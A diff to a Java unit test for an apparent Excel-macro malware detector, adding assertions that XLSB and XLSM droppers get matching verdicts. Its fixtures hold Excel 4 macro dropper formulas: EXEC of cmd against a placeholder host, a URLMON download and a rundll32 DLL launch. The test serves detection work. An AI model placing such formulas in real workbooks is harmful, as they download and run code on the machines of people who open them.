@@ -149,7 +149,7 @@ class XlsbFormulasTest {
     }
 
     @Test
-    void anXlsbDropperIsJudgedExactlyLikeItsXlsmTwin() throws IOException {
+    void anXlsbDropperIsJudgedExactlyLikeItsXlsmTwin() throws Exception {
         List<String[]> sheets = List.of(
                 new String[] {"EXEC(\"cmd /c start http://example.invalid/x\")", "HALT()"},
                 new String[] {URLMON, "EXEC(\"rundll32 C:\\Users\\Public\\p.dll,DllRegisterServer\")", "HALT()"},
@@ -164,6 +164,8 @@ class XlsbFormulasTest {
 
             assertThat(xlsb.xlmCode()).isEqualTo(String.join("\n", formulas));
             assertThat(xlsb).isEqualTo(xlsm);
+            assertThat(xlsb.attribute("xlm_code")).isEqualTo(xlsb.xlmCode());
+            assertThat(xlsb.attribute("has_xlm_macros")).isEqualTo(true);
             assertThat(xlsb.detectedAutoexec()).containsExactly(
                     "Auto_Open: An Excel 4 macro runs when the workbook is opened (defined name)");
         }
